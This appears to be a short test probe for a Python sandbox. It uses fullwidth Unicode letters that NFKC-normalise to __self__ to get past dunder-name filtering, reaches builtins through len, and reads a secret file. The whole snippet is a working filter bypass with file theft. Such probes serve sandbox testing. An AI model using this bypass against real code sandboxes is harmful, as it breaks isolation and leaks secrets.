# effect: leak
# note: NFKC makes it __self__
def attempt(probe):
    return len.__ｓｅｌｆ__.open(probe["secret_file"]).read()
